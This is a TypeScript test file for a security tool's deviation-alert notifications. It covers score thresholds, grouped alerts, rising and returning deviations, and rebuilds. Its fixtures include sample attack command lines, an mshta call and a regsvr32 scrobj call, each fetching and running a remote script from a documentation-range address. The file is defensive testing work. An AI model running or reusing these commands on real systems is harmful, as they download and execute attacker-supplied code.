import { beforeEach, expect, test } from 'vitest'
import { ingestExamples } from '@/lib/operations/ingest/example-use'
import { queueRebuild, recompute } from '@/lib/operations/recompute/recompute'
import { forgetTriage, itemOf, judge, withTriageExamples } from '@/lib/operations/triage-examples'
import { readClock, tellOfNewDeviations } from '@/lib/store/notifications/new-deviations'
import { pool } from '@/lib/store/pool'
import { listInbox } from '@/lib/store/screens/notifications'
import { chooseNotification } from './choices'
import { openChannels } from './run-notifier'

const examples = withTriageExamples()
const EVERYTHING = { inApp: true, email: true, webhook: true, minScoreMillibits: null }

beforeEach(async () => {
  await pool().query('DELETE FROM notification')
  await pool().query('DELETE FROM notification_choice')
})

test('new deviations are told to who chose so, from the score they chose, in their scope, and many at once together', async () => {
  const { responder, groupResponder } = examples()
  const settle = async () => {
    await recompute(pool())
    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
  }
  await settle()
  await chooseNotification(responder, {
    event: 'deviation-found',
    ...EVERYTHING,
    email: false,
    minScoreMillibits: 4000,
  })
  await chooseNotification(groupResponder, {
    event: 'deviation-found',
    ...EVERYTHING,
    minScoreMillibits: 90_000,
  })
  const use = (host: string, commandLine: string) => ({
    host,
    at: '2026-01-08T12:00:00Z',
    image: 'C:\\Windows\\System32\\mshta.exe',
    commandLine,
  })
  await ingestExamples(pool(), [use('ws-3.example', 'mshta http://203.0.113.9/a.hta')])
  await settle()
  await settle()
  const told = await listInbox(responder.accountId)
  expect(told).toHaveLength(1)
  expect(told[0]?.title).toMatch(/^New deviation, \d+\.\d bits: Mshta\.exe$/)
  expect(await listInbox(groupResponder.accountId)).toEqual([])

  const words = 'amber birch cedar dune ember fern grove heath inlet jetty knoll ledge'.split(' ')
  await ingestExamples(
    pool(),
    words.map((word) => use('ws-2.example', `mshta C:\\Users\\Public\\${word}.hta`)),
  )
  await settle()
  const [together, ...before] = await listInbox(responder.accountId)
  expect(before).toHaveLength(1)
  expect(together?.title).toMatch(/^12 new deviations, the highest \d+\.\d bits: Mshta\.exe$/)
})

test('a deviation that rises, and one that comes back, is told once each in these words', async () => {
  const { responder } = examples()
  const told = async () => {
    await pool().query('DELETE FROM notification')
    // nothing else is of this test
    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
    return (await listInbox(responder.accountId)).map(({ title }) => title)
  }
  const { id } = await itemOf('driver')
  const scores = (millibits: number) =>
    pool().query('UPDATE deviation_hit SET score_millibits = $2 WHERE deviation_id = $1', [id, millibits])
  await recompute(pool())
  await chooseNotification(responder, {
    event: 'deviation-found',
    ...EVERYTHING,
    minScoreMillibits: 100_000,
  })
  expect(await told()).toEqual([])
  await scores(123_400)
  expect(await told()).toEqual(['A deviation rose to 123.4 bits: Regsvr32.exe'])
  expect(await told()).toEqual([])
  await scores(5000)
  expect(await told()).toEqual([])
  await scores(110_000)
  expect(await told()).toEqual(['A deviation is back, 110.0 bits: Regsvr32.exe'])
  expect(await told()).toEqual([])
})

test('what was explained and deviates all the same is told, and what was so when somebody chose to be told is not', async () => {
  const { responder } = examples()
  const settle = async () => {
    await recompute(pool())
    await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
    return (await listInbox(responder.accountId)).map(({ title }) => title)
  }
  await forgetTriage()
  await chooseNotification(responder, {
    event: 'deviation-found',
    ...EVERYTHING,
    minScoreMillibits: 4000,
  })
  expect(await settle()).toEqual([])
  await judge(responder, 'scrobj', { to: 'expected', until: '2026-01-08' })
  expect(await settle()).toEqual([])
  await ingestExamples(pool(), [
    {
      host: 'ws-3.example',
      at: '2026-01-09T10:00:00Z',
      image: 'C:\\Windows\\System32\\regsvr32.exe',
      commandLine: 'regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll',
    },
  ])
  const found = await settle()
  expect(found).toHaveLength(1)
  expect(found[0]).toMatch(/^What was explained deviates again, \d+\.\d bits: Regsvr32\.exe$/)
  expect(await settle()).toHaveLength(1)
})

test('a rebuild that is told of on its way tells nothing that was seen before, to nobody', async () => {
  const { responder, groupResponder } = examples()
  const choice = { event: 'deviation-found', ...EVERYTHING, minScoreMillibits: 4000 } as const
  const tell = async () => await tellOfNewDeviations(pool(), await readClock(pool()), openChannels())
  await recompute(pool())
  await chooseNotification(responder, choice)
  await tell()
  await pool().query('DELETE FROM notification')
  await queueRebuild(pool())
  // somebody who is looked at for the first time meanwhile
  await chooseNotification(groupResponder, choice)
  for (let days = 1; ; days++) {
    let steps = 0
    await recompute(pool(), { isStopped: () => ++steps > days })
    await tell()
    const { rows } = await pool().query('SELECT 1 FROM host_work WHERE dirty_from IS NOT NULL LIMIT 1')
    if (rows.length === 0) break
  }
  expect(await listInbox(responder.accountId)).toEqual([])
  expect(await listInbox(groupResponder.accountId)).toEqual([])
})
